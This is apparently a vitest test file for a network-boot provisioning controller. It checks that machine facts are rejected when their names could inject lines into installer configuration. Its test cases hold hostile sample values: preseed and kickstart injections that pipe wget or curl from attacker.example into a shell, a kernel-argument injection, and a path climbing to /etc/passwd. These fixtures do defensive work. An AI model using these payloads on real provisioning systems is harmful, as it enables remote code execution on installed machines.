import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { backends } from '../support/backends.js';
import { freshController, snapshot } from '../support/controller.js';
import { makeFacts } from '../support/facts.js';
import type { Facts } from '../../src/core/facts.js';

type TC = Awaited<ReturnType<typeof freshController>>;

/**
 * Facts are written by whoever holds a run token on the provisioning network, and their disk
 * and NIC names end up on preseed lines, kickstart commands and kernel command lines. Facts
 * whose names could carry a line (or a control character anywhere) are refused on arrival
 * with a 400 naming the field, and nothing is stored.
 */
describe.each(backends)('facts validated on arrival on $name', (backend) => {
  let t: TC;
  let token: string;
  const dir = mkdtempSync(join(tmpdir(), 'plinth-facts-'));
  writeFileSync(join(dir, 'vmlinuz'), 'k');
  writeFileSync(join(dir, 'initrd.img'), 'i');
  const MAC = '52:54:00:f4:00:01';
  const UUID = '7b1d2e3f-0000-4000-8000-00000000f401';

  beforeAll(async () => {
    t = await freshController(backend, {}, { installer: () => ({ kernel: join(dir, 'vmlinuz'), initrd: join(dir, 'initrd.img') }) });
    const boot = await t.controller.app.inject({ method: 'GET', url: `/boot/machine.ipxe?uuid=${UUID}&mac=${MAC}`, headers: { 'user-agent': 'iPXE/1.21.1' } });
    token = /plinth\.token=(\S+)/.exec(boot.body)![1]!;
    const hello = await agent('/agent/v1/hello', { agentVersion: 'test' });
    expect(hello.statusCode, hello.body).toBe(200);
  });
  afterAll(async () => t?.close());

  const agent = (path: string, body: unknown) => t.controller.app.inject({ method: 'POST', url: path, headers: { authorization: `Bearer ${token}` }, payload: body as object });
  const facts = (change: (f: Facts) => void): Facts => {
    const f = makeFacts({ uuid: UUID, macs: [MAC] });
    change(f);
    return f;
  };

  it.each<[string, (f: Facts) => void, RegExp]>([
    ['a disk name with a line break (preseed injection)', (f) => (f.disks[0]!.name = 'sda\nd-i preseed/early_command string wget -qO- http://attacker.example/x | sh'), /^disks\[0\]\.name: must match pattern/],
    ['a disk name that opens a kickstart %pre section', (f) => (f.disks[0]!.name = 'sda\n%pre\ncurl http://attacker.example/x | sh\n%end'), /^disks\[0\]\.name: must match pattern/],
    ['a disk name with a space and a quote', (f) => (f.disks[0]!.name = "sda' --drives=sdb"), /^disks\[0\]\.name: must match pattern/],
    ['a disk name that climbs out of /dev', (f) => (f.disks[0]!.name = '../etc/passwd'), /^disks\[0\]\.name: must match pattern/],
    ['a NIC name with a space (kernel command line injection)', (f) => (f.nics[0]!.name = 'eth0 inst.ks=http://attacker.example/ks'), /^nics\[0\]\.name: must match pattern/],
    ['a disk serial with a line break', (f) => (f.disks[0]!.serial = 'S1\nserial: x'), /^disks\[0\]\.serial: must match pattern/],
    ['a system serial with an escape sequence', (f) => (f.system.serial = 'ABC\u001b[2J'), /^system\.serial: must match pattern/],
    ['a NUL in an hw value', (f) => (f.hw[0]![3] = 'a\u0000b'), /^hw\[0\]\[3\]: must match pattern/],
    ['an IPv4 address that is not one', (f) => (f.nics[0]!.ipv4 = ['10.0.2.15 inst.ks=x']), /^nics\[0\]\.ipv4\[0\]: must match pattern/],
  ])('refuses %s with a 400 naming the field, storing nothing', async (_what, change, message) => {
    const before = await snapshot(t.controller);
    const r = await agent('/agent/v1/facts', facts(change));
    expect(r.statusCode, r.body).toBe(400);
    expect(r.json().error.message).toMatch(message);
    expect(await snapshot(t.controller)).toBe(before);
  });

  it('accepts the kernel names real machines report (nvme0n1, cciss/c0d0, md127, dm-0, enp1s0f0.100)', async () => {
    const r = await agent(
      '/agent/v1/facts',
      facts((f) => {
        f.disks = ['nvme0n1', 'cciss/c0d0', 'md127', 'dm-0'].map((name) => ({ ...f.disks[0]!, name, serial: 'WD-WCC4N 1234', wwn: 't10.ATA     QEMU HARDDISK   QM00001' }));
        f.nics[0]!.name = 'enp1s0f0.100';
        f.nics[0]!.ipv6 = ['2001:db8::15'];
      }),
    );
    expect(r.statusCode, r.body).toBe(200);
  });
});
